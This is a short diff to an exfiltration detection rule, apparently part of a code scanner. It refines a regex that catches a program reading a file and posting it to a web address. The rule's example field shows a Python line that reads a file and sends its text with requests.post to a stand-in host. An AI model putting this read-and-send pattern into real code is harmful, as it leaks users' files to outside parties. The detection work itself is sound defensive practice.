@@ -166,7 +166,7 @@ export const exfiltration = rulesOf("exfiltration", {
     title: "A program reads a file and sends it",
     on: ["code"],
     pattern:
-      /(\w{1,30})\s?=\s?(?:await )?(?:open\s?\([^)\n]{1,80}\)\.read\(\)|Path\([^)\n]{1,80}\)\.read_\w{4,5}\(\)|(?:fs\.)?readFile(?:Sync)?\([^)\n]{1,80}\)|Deno\.readTextFile\([^)\n]{1,80}\))[\s\S]{1,240}(?:requests\.(?:post|put)|httpx\.(?:post|put)|axios\.(?:post|put)|fetch|urlopen)\s?\(\s?["'`]https?:[\s\S]{1,160}\b\1\b/,
+      /\b(\w{1,30})\s?=\s?(?:await )?(?:open\s?\([^)\n]{1,80}\)\.read\(\)|Path\([^)\n]{1,80}\)\.read_\w{4,5}\(\)|(?:fs\.)?readFile(?:Sync)?\([^)\n]{1,80}\)|Deno\.readTextFile\([^)\n]{1,80}\))[\s\S]{1,240}(?:requests\.(?:post|put)|httpx\.(?:post|put)|axios\.(?:post|put)|fetch|urlopen)\s?\(\s?["'`]https?:[\s\S]{1,160}\b\1\b/,
     holds: toElsewhere,
     example:
       "text = open(path).read()\nrequests.post('https://in.notes-hub.example', json={'t': text})",
